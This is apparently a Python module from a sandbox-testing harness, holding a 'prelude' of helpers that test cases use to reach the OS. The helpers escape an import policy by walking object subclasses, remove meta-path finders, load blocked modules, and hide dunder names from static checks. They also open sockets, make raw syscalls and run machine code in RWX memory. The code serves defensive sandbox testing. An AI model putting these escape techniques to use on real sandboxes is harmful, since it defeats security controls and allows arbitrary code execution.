"""The attack prelude: Python source prepended to every attack cell.

It is *user code*: it runs inside the kernel under test, as hostile code would. It gives the
cases the classic ways around an import policy, so that a case can always reach the
operating system and let the OS layer be what stops it:

  _bootg()          globals of importlib's bootstrap, found through
                    ().__class__.__base__.__subclasses__() -> ModuleSpec.__init__.__globals__
  _osg()            the globals of the os module (via the _wrap_close class)
  _sys(), _os()     the real sys and os/posix modules
  _mod(name)        any module: sys.modules, else BuiltinImporter (builtin modules such as
                    _socket, gc, _signal, posix), else _imp.create_dynamic on the extension's
                    .so file (_ctypes, mmap, _posixshmem), else _gcd_import with the policy's
                    meta-path finders removed
  _open(p, m)       io.open from the real _io module
  _C()              a tiny ctypes built on _ctypes alone (syscall(nr, *args) -> (ret, errno),
                    buffers, peek/poke, calling machine code)

and the reporting every case uses, one line each, parsed by the runner:

  TRY <label>                  the attack is about to make the call
  OK <label>: <result>         the call succeeded (result shortened)
  ERR <label>: <ERRNO> <text>  the OS refused it (an OSError with an errno)
  RET <label>: ret=<r> errno=<ERRNO>   a raw syscall's result
  EXC <label>: <Type> <text>   something else failed: the OS call was not reached

Names of dunder attributes are built at run time (_D('class')) so that a static check of the
cell cannot see them; the cases never write an import statement for a blocked module.
"""

PRELUDE = r'''
def _D(n):
    return '_' '_' + n + '_' '_'


def _G(o, *names):
    for n in names:
        o = getattr(o, n)
    return o


def _p(*a):
    try:
        print(*a, flush=True)
    except Exception:
        pass


_SCX = {}
_KEEP = []


def _subclasses():
    return _G((), _D('class'), _D('base'), _D('subclasses'))()


def _cname(c):
    try:
        return getattr(c, _D('name'))
    except Exception:
        return '?'


def _initg(c):
    try:
        return _G(c, _D('init'), _D('globals'))
    except Exception:
        return None


def _sc_scan():
    if 'scanned' in _SCX:
        return
    _SCX['scanned'] = True
    for c in _subclasses():
        n = _cname(c)
        if n == 'ModuleSpec' and 'boot' not in _SCX:
            g = _initg(c)
            if isinstance(g, dict) and '_imp' in g:
                _SCX['boot'] = g
        elif n == '_wrap_close' and 'osg' not in _SCX:
            g = _initg(c)
            if isinstance(g, dict) and 'kill' in g:
                _SCX['osg'] = g
        elif n == 'FileFinder' and 'bootx' not in _SCX:
            g = _initg(c)
            if isinstance(g, dict):
                _SCX['bootx'] = g


def _bootg():
    _sc_scan()
    return _SCX['boot']


def _osg():
    _sc_scan()
    return _SCX['osg']


def _sys():
    _sc_scan()
    for k in ('boot', 'osg'):
        g = _SCX.get(k)
        if g and g.get('sys') is not None:
            return g['sys']
    raise RuntimeError('no route to sys')


class _NS(object):
    def __init__(self, d):
        object.__setattr__(self, '_d', d)

    def __getattr__(self, n):
        try:
            return self._d[n]
        except KeyError:
            raise AttributeError(n)


def _os():
    if 'os' in _SCX:
        return _SCX['os']
    o = None
    try:
        m = _sys().modules.get('os')
        if m is not None and hasattr(m, 'kill') and hasattr(m, 'open'):
            o = m
    except Exception:
        pass
    if o is None:
        try:
            o = _NS(_osg())
        except Exception:
            o = _mod('posix')
    _SCX['os'] = o
    return o


def _builtin_mod(name):
    b = _bootg()
    BI = b['BuiltinImporter']
    spec = BI.find_spec(name)
    if spec is None:
        raise ImportError('not builtin: ' + name)
    imp = b['_imp']
    m = imp.create_builtin(spec)
    try:
        imp.exec_builtin(m)
    except Exception:
        pass
    return m


def _ext_mod(name):
    b = _bootg()
    imp = b['_imp']
    o = _os()
    for d in _sys().path:
        try:
            names = o.listdir(d or '.')
        except Exception:
            continue
        for f in names:
            if f.startswith(name + '.') and f.endswith('.so'):
                spec = b['ModuleSpec'](name, None, origin=d + '/' + f)
                m = imp.create_dynamic(spec)
                imp.exec_dynamic(m)
                _sys().modules[name] = m
                return m
    raise ImportError('no extension file for ' + name)


_STD_FINDERS = ('BuiltinImporter', 'FrozenImporter', 'PathFinder', '_KernelFinder',
                '_ShimFallbackFinder', 'DistutilsMetaFinder')


def _unpolicy():
    """Removes every meta-path finder that is not one of the standard ones, and restores
    the bootstrap's __import__ as builtins.__import__."""
    s = _sys()
    removed = []
    for f in list(s.meta_path):
        t = f if isinstance(f, type) else type(f)
        if _cname(t) not in _STD_FINDERS:
            try:
                s.meta_path.remove(f)
                removed.append(_cname(t))
            except Exception:
                pass
    try:
        bi = s.modules['builtins']
        setattr(bi, _D('import'), _bootg()[_D('import')])
    except Exception:
        pass
    return removed


def _mod(name):
    s = _sys()
    m = s.modules.get(name)
    if m is not None:
        return m
    errs = []
    try:
        return _builtin_mod(name)
    except Exception as e:
        errs.append('builtin: %r' % (e,))
        if 'not builtin' not in str(e):
            try:
                _unpolicy()
                return _builtin_mod(name)
            except Exception as e2:
                errs.append('builtin after unpolicy: %r' % (e2,))
    try:
        return _ext_mod(name)
    except Exception as e:
        errs.append('ext: %r' % (e,))
    try:
        _unpolicy()
        return _bootg()['_gcd_import'](name)
    except Exception as e:
        errs.append('gcd: %r' % (e,))
    raise ImportError('cannot load %s: %s' % (name, '; '.join(errs)))


def _open(path, mode='r', **kw):
    return _mod('_io').open(path, mode, **kw)


_ERRNAMES = {}


def _errname(n):
    if not _ERRNAMES:
        try:
            _ERRNAMES.update(_mod('errno').errorcode)
        except Exception:
            pass
    return _ERRNAMES.get(n, 'E%s' % n) if n else '0'


def _short(v, n=300):
    try:
        r = repr(v)
    except Exception:
        r = '<unrepresentable>'
    return r if len(r) <= n else r[:n] + '...'


def _try(label, fn, show=300):
    _p('TRY ' + label)
    try:
        v = fn()
    except OSError as e:
        en = getattr(e, 'errno', None)
        if en is None and e.args and isinstance(e.args[0], int):
            en = e.args[0]
        if en is None:
            _p('EXC %s: %s %s' % (label, type(e).__name__, _short(e, 200)))
        else:
            _p('ERR %s: %s %s' % (label, _errname(en), _short(e, 200)))
        return e
    except BaseException as e:
        if type(e).__name__ in ('KeyboardInterrupt', 'SystemExit'):
            raise
        _p('EXC %s: %s %s' % (label, type(e).__name__, _short(e, 200)))
        return e
    _p('OK %s: %s' % (label, _short(v, show)))
    return v


# -- sockets ---------------------------------------------------------------------------------

def _sock(family, stype, proto=0):
    S = _mod('_socket')
    s = S.socket(family, stype, proto)
    _KEEP.append(s)
    return s


def _connect(family, stype, addr, proto=0, payload=b'scpwn', timeout=2.0):
    s = _sock(family, stype, proto)
    s.settimeout(timeout)
    if stype == 2:  # SOCK_DGRAM
        s.sendto(payload, addr)
        return 'sent'
    s.connect(addr)
    try:
        s.send(payload)
    except Exception:
        pass
    return 'connected'


# -- a tiny ctypes on _ctypes alone ------------------------------------------------------------

class _CT(object):
    pass


def _C():
    if 'C' in _SCX:
        return _SCX['C']
    _c = _mod('_ctypes')
    C = _CT()
    C._c = _c

    class c_long(_c._SimpleCData):
        _type_ = 'l'

    class c_char(_c._SimpleCData):
        _type_ = 'c'

    class c_void_p(_c._SimpleCData):
        _type_ = 'P'

    class Fn(_c.CFuncPtr):
        _flags_ = 1 | 8  # FUNCFLAG_CDECL | FUNCFLAG_USE_ERRNO
        _restype_ = c_long

    class _Lib(object):
        pass

    lib = _Lib()
    lib._handle = _c.dlopen(None, 0)
    C.lib = lib
    C.c_long = c_long
    C.c_char = c_char
    C.Fn = Fn
    C.arrays = {}

    def fn(name):
        return Fn((name, lib))

    C.fn = fn
    _sc = fn('syscall')

    def buf(n, data=b''):
        T = C.arrays.get(n)
        if T is None:
            T = type('CharArr%d' % n, (_c.Array,), {'_type_': c_char, '_length_': n})
            C.arrays[n] = T
        b = T()
        if data:
            b.raw = bytes(data) + bytes(n - len(data))
        _KEEP.append(b)
        return b

    def addr(b):
        return _c.addressof(b)

    def arg(a):
        if isinstance(a, tuple) and len(a) == 2 and a[0] == 'buf':
            return c_long(addr(buf(a[1])))
        if isinstance(a, int):
            return c_long(a)
        if isinstance(a, str):
            a = a.encode() + b'\0'
        if isinstance(a, (bytes, bytearray)):
            b = buf(len(a) + 1, a)
            return c_long(addr(b))
        if isinstance(a, _c.Array):
            return c_long(addr(a))
        return a

    def syscall(nr, *args):
        _c.set_errno(0)
        r = _sc(c_long(nr), *[arg(a) for a in args])
        return r, (_c.get_errno() if r == -1 else 0)

    def call(fname, *args):
        _c.set_errno(0)
        r = fn(fname)(*[arg(a) for a in args])
        return r, (_c.get_errno() if r == -1 else 0)

    _mm = fn('memmove')

    def peek(address, n):
        b = buf(n)
        _mm(c_long(addr(b)), c_long(address), c_long(n))
        return b.raw

    def poke(address, data):
        b = buf(len(data), data)
        _mm(c_long(address), c_long(addr(b)), c_long(len(data)))

    def run_code(code_bytes, low32=False):
        """Copies machine code to a fresh executable mapping and calls it; returns rax."""
        flags = 0x22 | (0x40 if low32 else 0)  # MAP_PRIVATE|MAP_ANONYMOUS [|MAP_32BIT]
        a, e = syscall(9, 0, 4096, 7, flags, -1, 0)  # mmap RWX
        if a == -1 or a < 0:
            raise OSError(e, 'mmap PROT_EXEC: ' + _errname(e))
        poke(a, code_bytes)
        return Fn(a)(), a

    def mmap32(n=4096):
        a, e = syscall(9, 0, n, 3, 0x22 | 0x40, -1, 0)
        if a == -1 or a < 0:
            raise OSError(e, 'mmap MAP_32BIT: ' + _errname(e))
        return a

    C.buf, C.addr, C.syscall, C.call = buf, addr, syscall, call
    C.peek, C.poke, C.run_code, C.mmap32 = peek, poke, run_code, mmap32
    _SCX['C'] = C
    return C


def _sys_try(label, nr, *args):
    """A raw syscall through _C(), reported as RET (or EXC when _C() is unreachable)."""
    _p('TRY ' + label)
    try:
        r, e = _C().syscall(nr, *args)
    except BaseException as ex:
        if type(ex).__name__ in ('KeyboardInterrupt', 'SystemExit'):
            raise
        _p('EXC %s: %s %s' % (label, type(ex).__name__, _short(ex, 200)))
        return None, None
    _p('RET %s: ret=%d errno=%s' % (label, r, _errname(e)))
    return r, e
'''
